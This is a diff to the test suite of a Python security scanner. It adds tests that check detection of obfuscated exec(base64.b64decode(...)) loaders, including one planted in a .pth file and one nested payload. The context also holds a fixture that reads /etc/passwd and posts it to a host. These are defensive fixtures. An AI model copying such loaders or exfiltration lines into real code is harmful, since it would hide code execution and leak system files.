@@ -306,6 +306,23 @@ def test_recursion_in_libcst_visit_falls_back(rules: RuleSet) -> None:
     assert any(n.kind == "too-deep" and "reduced scan" in n.message for n in result.notifications)
 
 
+def test_pth_fallback_points_at_the_import_line(rules: RuleSet) -> None:
+    src = f"some/long/site/path/entry\nimport base64; (x): int = 1; exec(base64.b64decode('{B64}'))\n"
+    result = scan("evil.pth", src, rules)
+    [finding] = [f for f in result.findings if f.rule == "DS901"]
+    assert finding.fallback and finding.location.line == 2 and finding.location.column == 30
+    assert "exec(base64" in finding.snippet
+
+
+def test_nested_payload_that_libcst_cannot_parse(ruleset: RuleSet) -> None:
+    import base64
+
+    inner = base64.b64encode(b"import base64\n(x): int = 1\nexec(base64.b64decode('cHJpbnQoMSk='))\n").decode()
+    result = scan_file("outer.py", f"import base64\nexec(base64.b64decode('{inner}'))\n".encode(), ruleset, Config())
+    assert not [n for n in result.notifications if n.kind in ("internal-error", "rule-error")]
+    assert result.findings
+
+
 def test_clean_parse_has_no_fallback(rules: RuleSet) -> None:
     result = scan("a.py", f"import base64\nexec(base64.b64decode('{B64}'))\n", rules)
     assert codes(result, fallback_only=False) == {"DS901", "DS905"} and not codes(result, fallback_only=True)
@@ -855,10 +872,11 @@ def _regex_child(start: int) -> None:  # pragma: no cover - runs in a subprocess
     from datasec_scan.engine import scan_file as scan_one
     from datasec_scan.plugins import discover as discover_rules
 
-    scan_one("warm.py", b"import base64, socket, os\nexec(base64.b64decode('eA=='))\nKEY='AKIAIOSFODNN7EXAMPLE'\n"
+    selftest = bool(os.environ.get("DATASEC_REGEX_SELFTEST"))
+    selftest or scan_one("warm.py", b"import base64, socket, os\nexec(base64.b64decode('eA=='))\nKEY='AKIAIOSFODNN7EXAMPLE'\n"
              b"requests.post('https://example.com', data=open('/etc/passwd').read())\n", discover_rules(), Config())
     patterns = collect_patterns()
-    if os.environ.get("DATASEC_REGEX_SELFTEST"):  # the harness's own check: a known catastrophic pattern
+    if selftest:  # the harness's own check: a known catastrophic pattern among three ordinary ones
         patterns = [("selftest", re.compile(r"^(a+)+$"))] + patterns[:3]
     print(f"TOTAL {len(patterns)}", flush=True)
     for i, (where, pattern) in enumerate(patterns[start:], start):
